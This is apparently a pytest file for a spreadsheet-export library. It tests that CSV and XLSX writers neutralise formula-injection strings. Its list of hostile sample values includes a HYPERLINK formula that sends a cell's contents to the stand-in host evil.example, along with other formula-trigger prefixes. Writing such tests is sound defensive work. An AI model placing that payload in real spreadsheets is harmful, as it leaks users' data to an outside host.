import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from hazardloop.lib.cells import clean_text, csv_value, set_text, xlsx_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "火锅店\x0b二楼",
    "普通名称",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_values_are_defused(value):
    out = csv_value(value)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "\x0b" not in out


def test_non_text_passes_through():
    assert csv_value(5) == 5 and csv_value(None) is None
    assert clean_text("a\x00b\x1fc\n") == "abc\n"


def _saved(book) -> bytes:
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def test_xlsx_text_is_never_a_formula_and_always_opens():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(xlsx_row(sheet, [*HOSTILE, 3, None]))
    data = _saved(book)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    row = [c.value for c in next(load_workbook(io.BytesIO(data)).active.iter_rows())]
    assert row[0] == HOSTILE[0] and row[6] == "火锅店二楼" and row[8] == 3


def test_set_text_on_a_normal_sheet():
    book = Workbook()
    set_text(book.active["A1"], "=1+1")
    set_text(book.active["A2"], 7)
    xml = zipfile.ZipFile(io.BytesIO(_saved(book))).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "=1+1" in xml
